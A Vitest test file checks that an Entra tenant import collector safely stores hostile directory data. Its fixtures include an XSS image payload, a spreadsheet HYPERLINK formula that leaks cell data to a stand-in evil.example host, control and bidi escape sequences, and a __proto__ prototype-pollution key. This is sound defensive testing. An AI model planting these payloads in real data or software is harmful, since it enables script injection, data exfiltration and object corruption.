import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readEntraDir, transformEntraImport } from '../../../collectors/entra';
import { inventorySchema, type Inventory } from '../../../model/inventory';

const TENANT = '0b7c9a51-3e2d-4f6a-8b1c-2d3e4f5a6b7c';
const XSS = '<img src=x onerror=alert(1)>';
const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';
const CONTROL = 'line1\u0000\u0007\u001b[31mred\u001b[0m\r\nline2\u202Eexe.txt';
const HUGE = `${'Ä'.repeat(1024)}${'A'.repeat(50 * 1024 * 1024)}`;

let dir: string;
let inv: Inventory;

async function put(rel: string, body: unknown): Promise<void> {
  await mkdir(dirname(join(dir, rel)), { recursive: true });
  await writeFile(join(dir, rel), typeof body === 'string' ? body : JSON.stringify(body));
}

beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'entra-hostile-'));
  await put('v1.0/organization.json', { value: [{ id: TENANT, displayName: XSS }] });
  await put('v1.0/servicePrincipals.json', {
    value: [
      {
        id: 'aaaaaaaa-0000-4000-8000-000000000001',
        appId: 'bbbbbbbb-0000-4000-8000-000000000001',
        displayName: XSS,
        description: CONTROL,
        servicePrincipalType: 'Application',
        tags: ['__proto__', 'constructor', FORMULA],
      },
      { id: 'aaaaaaaa-0000-4000-8000-000000000002', displayName: HUGE, servicePrincipalType: 'Application' },
    ],
  });
  // A key that would pollute Object.prototype if copied with plain assignment.
  await put(
    'v1.0/applications.json',
    `{"value":[{"id":"cccccccc-0000-4000-8000-000000000001","appId":"bbbbbbbb-0000-4000-8000-000000000001","displayName":${JSON.stringify(
      FORMULA,
    )},"__proto__":{"polluted":true},"passwordCredentials":[{"keyId":"dddddddd-0000-4000-8000-000000000001","displayName":${JSON.stringify(
      CONTROL,
    )},"hint":"=1+","endDateTime":"2030-01-01T00:00:00Z"}]}]}`,
  );
  await put('v1.0/applications/cccccccc-0000-4000-8000-000000000001/owners.json', {
    value: [
      {
        '@odata.type': '#microsoft.graph.user',
        id: 'eeeeeeee-0000-4000-8000-000000000001',
        displayName: FORMULA,
        userPrincipalName: `${XSS}@contoso.example`,
      },
    ],
  });
  inv = transformEntraImport(await readEntraDir(dir), '2025-06-01T00:00:00Z');
});

afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

describe('hostile names from a tenant', () => {
  it('are stored verbatim as data', () => {
    const sp = inv.identities.find((i) => i.nativeId === 'aaaaaaaa-0000-4000-8000-000000000001');
    expect(sp?.name).toBe(XSS);
    expect(sp?.displayName).toBe(XSS);
    expect(sp?.description).toBe(CONTROL);
    const app = inv.identities.find((i) => i.nativeId === 'cccccccc-0000-4000-8000-000000000001');
    expect(app?.name).toBe(FORMULA);
    expect(app?.owners[0]).toMatchObject({ displayName: FORMULA, principalName: `${XSS}@contoso.example` });
    expect(inv.credentials[0]?.name).toBe(CONTROL);
  });

  it('keep tag names such as __proto__ as plain keys, and never touch Object.prototype', () => {
    const sp = inv.identities.find((i) => i.nativeId === 'aaaaaaaa-0000-4000-8000-000000000001');
    expect(Object.keys(sp?.tags ?? {})).toEqual(['__proto__', 'constructor', FORMULA]);
    expect(Object.getPrototypeOf(sp?.tags)).toBe(Object.prototype);
    expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  });

  it('survive a 50 MB display name without truncation', () => {
    const huge = inv.identities.find((i) => i.nativeId === 'aaaaaaaa-0000-4000-8000-000000000002');
    expect(huge?.name.length).toBe(HUGE.length);
    expect(huge?.name === HUGE).toBe(true);
  });

  it('still make an inventory the model accepts, without the secret hint', () => {
    expect(() => inventorySchema.parse(inv)).not.toThrow();
    const small = { ...inv, identities: inv.identities.filter((i) => i.name.length < 1000) };
    expect(JSON.stringify(small)).not.toContain('=1+');
  });
});
